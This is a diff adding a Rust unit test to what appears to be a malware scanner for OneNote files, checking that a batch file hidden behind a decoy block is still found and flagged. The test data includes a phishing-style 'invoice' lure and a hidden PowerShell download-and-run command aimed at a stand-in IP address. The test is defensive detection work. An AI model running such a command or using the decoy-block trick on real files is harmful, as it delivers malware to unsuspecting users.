@@ -108,3 +108,24 @@ fn a_truncated_block_is_a_finding_and_still_scanned() {
     assert!(util::found_eicar(&r));
     assert_ne!(r.verdict, Verdict::Clean);
 }
+
+/// A decoy block whose declared length swallows the header of the real
+/// one: OneNote reaches the real one by reference and shows it; it is read
+/// here too, and the batch file in it is judged.
+#[test]
+fn a_block_behind_a_decoy_that_swallows_its_header_is_read() {
+    let bat = b"@echo off\r\npowershell -w hidden -c \"iwr http://203.0.113.7/a.exe -o a.exe; start a.exe\"\r\n";
+    let real = block(bat, bat.len() as u64);
+    let mut f = section("Double-click to view the invoice", &[]);
+    f.extend(block(&[], (real.len() + 8) as u64));
+    f.extend(real);
+    let r = util::scan("invoice.one", f);
+    assert_ne!(r.verdict, Verdict::Clean, "{:?}", util::keys(&r));
+    assert!(
+        r.objects
+            .iter()
+            .any(|o| o.types.first().is_some_and(|t| t.ty.name() == "batch")),
+        "{:?}",
+        util::keys(&r)
+    );
+}
